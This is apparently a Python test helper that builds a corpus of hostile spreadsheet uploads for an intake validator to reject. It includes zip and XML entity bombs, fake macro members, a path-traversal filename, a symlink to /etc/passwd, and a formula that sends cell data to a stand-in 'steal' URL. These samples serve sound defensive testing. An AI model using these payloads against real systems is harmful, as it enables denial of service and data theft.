"""Build the corpus of hostile files intake must reject (run by the tests; runnable by hand).

    python -m tests.hostile.make_corpus OUT_DIR

Everything is generated from a real filled template, so each file differs from a valid one in
exactly one hostile way. Bombs are tiny on disk (deflate of zeros); the oversized file is sparse.
Returns {file name: the problem code intake must report}.
"""

from __future__ import annotations

import os
import sys
import zipfile
from pathlib import Path

BOMB_XML = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10))
    + b']>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">&lol9;</workbook>'
)
NON_UTF8_NAME = os.fsdecode(b"DDK001_\xc4\xbf\xb1\xea\xc8\xce\xce\xf1.xlsx")  # GBK bytes of 目标任务


def _rewrite(
    source: Path, target: Path, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None
) -> Path:
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = (replace or {}).get(info.filename, src.read(info))
            dst.writestr(info.filename, data)
        for name, data in (add or {}).items():
            dst.writestr(name, data)
    return target


def _zeros_member(zf: zipfile.ZipFile, name: str, size: int) -> None:
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    with zf.open(info, "w", force_zip64=True) as out:
        block = b"0" * (1024 * 1024)
        for _ in range(size // len(block)):
            out.write(block)


def build_corpus(out: Path, filled: Path, filled_docx: Path, max_bytes: int) -> dict[str, str]:
    """`filled`: a valid DDK001_task-list-2023.xlsx; `filled_docx`: any valid .docx."""
    out.mkdir(parents=True, exist_ok=True)
    expected: dict[str, str] = {}

    def add(name: str, code: str) -> Path:
        expected[name] = code
        return out / name

    big = add("DDK001_task-list-2023.xlsx", "E_TOO_LARGE")
    with big.open("wb") as fh:
        fh.write(filled.read_bytes())
        fh.truncate(max_bytes + 1)  # sparse: over the limit, ~no disk

    with zipfile.ZipFile(add("DDK002_task-list-2023.xlsx", "E_ZIP_BOMB"), "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        _zeros_member(zf, "xl/worksheets/sheet1.xml", 150 * 1024 * 1024)  # 150 MB in ~150 KB
    ratio = add("DDK003_task-list-2023.xlsx", "E_ZIP_BOMB")
    _rewrite(filled, ratio, add={"xl/media/padding.bin": b"\0" * (3 * 1024 * 1024)})

    _rewrite(filled, add("DDK004_task-list-2023.xlsx", "E_XML_BOMB"), replace={"xl/workbook.xml": BOMB_XML})
    _rewrite(
        filled, add("DDK005_task-list-2023.xlsx", "E_MACRO"), add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0fake-vba"}
    )
    add("DDK006_task-list-2023.xlsm", "E_MACRO").write_bytes(filled.read_bytes())

    data = filled.read_bytes()
    add("DDK001_targets-2023.xlsx", "E_CORRUPT").write_bytes(data[: len(data) // 2])  # truncated transfer
    add("DDK002_targets-2023.xlsx", "E_FILE_TYPE").write_bytes("<html><body>不是表格</body></html>".encode())
    add("DDK003_targets-2023.xlsx", "E_FILE_TYPE").write_bytes(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
    )  # legacy .xls
    add("DDK004_targets-2023.xlsx", "E_FILE_TYPE").write_bytes(filled_docx.read_bytes())  # a .docx renamed

    from openpyxl import load_workbook

    wb = load_workbook(filled)
    ws = wb.worksheets[0]
    ws["H5"] = "=12000*1.1"
    ws["I6"] = '=HYPERLINK("http://example.invalid/steal?"&A1,"点击")'
    wb.save(add("DDK001_task-list-2023 (2).xlsx", "E_FORMULA"))  # Windows' name for a second copy

    # Odd names on otherwise valid workbooks, each with different bytes (same bytes = one version).
    for i, name in enumerate(
        ("..\\..\\DDK001_task-list-2023.xlsx", "DDK001_task\x07list.xlsx", NON_UTF8_NAME, ".DDK001_task-list-2023.xlsx")
    ):
        wb = load_workbook(filled)
        wb.worksheets[0]["M5"] = f"第{i + 1}次修改"
        wb.save(add(name, "E_FILENAME"))

    link = add("DDK006_targets-2023.xlsx", "E_FILE_TYPE")
    link.symlink_to("/etc/passwd")
    add("notes.txt", "E_FILENAME").write_text("随手放进收件箱的说明文字", encoding="utf-8")
    return expected


if __name__ == "__main__":
    from campaign.config.model import load_config
    from campaign.config.settings import get_settings
    from campaign.documents.generate import write_document
    from campaign.workbook.generate import write_task_list
    from tests.support.filling import fill

    target = Path(sys.argv[1])
    config = load_config()
    tpl = write_task_list(config, config.enterprise("DDK001"), config.deliverable("task-list-2023"), target / "_src")
    docx = write_document(config.enterprise("DDK001"), config.deliverable("targets-2023"), target / "_src")
    for name, code in build_corpus(target, fill(tpl), docx, get_settings().max_upload_bytes).items():
        print(code, repr(name))
